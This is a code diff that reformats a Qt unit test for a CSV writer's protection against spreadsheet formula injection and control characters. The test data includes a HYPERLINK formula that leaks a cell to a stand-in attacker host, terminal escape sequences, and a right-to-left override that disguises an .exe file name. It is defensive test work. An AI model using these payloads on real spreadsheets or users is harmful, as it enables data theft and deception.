@@ -16,7 +16,8 @@ private:
     static const QString &payload()
     {
         // What the security review found written in clear as a payer id.
-        static const QString text = QStringLiteral("=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click for your refund\")");
+        static const QString text =
+            QStringLiteral("=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click for your refund\")");
         return text;
     }
 
@@ -60,11 +61,15 @@ private slots:
         QTest::addColumn<QString>("value");
         QTest::addColumn<QString>("written");
         QTest::newRow("NUL") << QString::fromUtf16(u"oUpF8\0uMu", 9) << QStringLiteral("oUpF8uMu");
-        QTest::newRow("escape sequence") << QStringLiteral("\x1b[2J\x1b]0;owned\x07name") << QStringLiteral("[2J]0;ownedname");
-        QTest::newRow("line breaks become spaces") << QStringLiteral("line one\r\nline two\u2028three")
-                                                   << QStringLiteral("line one  line two three");
-        QTest::newRow("DEL and C1") << QStringLiteral("a\x7f" "b\u0085c\u009bd") << QStringLiteral("abcd");
-        QTest::newRow("bidirectional override") << QStringLiteral("invoice\u202Efdp.exe") << QStringLiteral("invoicefdp.exe");
+        QTest::newRow("escape sequence") << QStringLiteral("\x1b[2J\x1b]0;owned\x07name")
+                                         << QStringLiteral("[2J]0;ownedname");
+        QTest::newRow("line breaks become spaces")
+            << QStringLiteral("line one\r\nline two\u2028three") << QStringLiteral("line one  line two three");
+        QTest::newRow("DEL and C1") << QStringLiteral("a\x7f"
+                                                      "b\u0085c\u009bd")
+                                    << QStringLiteral("abcd");
+        QTest::newRow("bidirectional override")
+            << QStringLiteral("invoice\u202Efdp.exe") << QStringLiteral("invoicefdp.exe");
         QTest::newRow("isolate") << QStringLiteral("\u2066x\u2069") << QStringLiteral("x");
     }
     void controlCharactersAreRemoved()
@@ -88,9 +93,13 @@ private slots:
         QVERIFY(!CsvWriter::isPlainNumber(u"=1"));
 
         CsvWriter::Row row;
-        row.number(QStringLiteral("-12.30")).number(qint64(-7)).number(QStringLiteral("-1+1")).number(QString()).text(QStringLiteral("-5"));
-        QCOMPARE(row.cells(), (QStringList{QStringLiteral("-12.30"), QStringLiteral("-7"), QStringLiteral("'-1+1"), QString(),
-                                           QStringLiteral("'-5")}));
+        row.number(QStringLiteral("-12.30"))
+            .number(qint64(-7))
+            .number(QStringLiteral("-1+1"))
+            .number(QString())
+            .text(QStringLiteral("-5"));
+        QCOMPARE(row.cells(), (QStringList{QStringLiteral("-12.30"), QStringLiteral("-7"), QStringLiteral("'-1+1"),
+                                           QString(), QStringLiteral("'-5")}));
     }
 
     void rowsAreDefusedByDefault()
@@ -98,7 +107,8 @@ private slots:
         QBuffer out;
         QVERIFY(out.open(QIODevice::ReadWrite));
         const QString nul(QChar(0));
-        QVERIFY(CsvWriter::writeRow(out, QStringList{payload(), QStringLiteral("a,b") + nul, QStringLiteral("say \"hi\"\n")}));
+        QVERIFY(CsvWriter::writeRow(
+            out, QStringList{payload(), QStringLiteral("a,b") + nul, QStringLiteral("say \"hi\"\n")}));
         CsvWriter::Row row;
         row.text(payload()).number(QStringLiteral("88.00")).text(QStringLiteral("@x\x1b"));
         QVERIFY(CsvWriter::writeRow(out, row));
@@ -109,7 +119,8 @@ private slots:
         QCOMPARE(parsed->size(), 2);
         QCOMPARE(parsed->at(0).fields,
                  (QStringList{QLatin1Char('\'') + payload(), QStringLiteral("a,b"), QStringLiteral("say \"hi\" ")}));
-        QCOMPARE(parsed->at(1).fields, (QStringList{QLatin1Char('\'') + payload(), QStringLiteral("88.00"), QStringLiteral("'@x")}));
+        QCOMPARE(parsed->at(1).fields,
+                 (QStringList{QLatin1Char('\'') + payload(), QStringLiteral("88.00"), QStringLiteral("'@x")}));
         for (const CsvReader::Row &r : std::as_const(*parsed)) {
             for (const QString &field : r.fields)
                 QVERIFY(!hasControlCharacters(field));
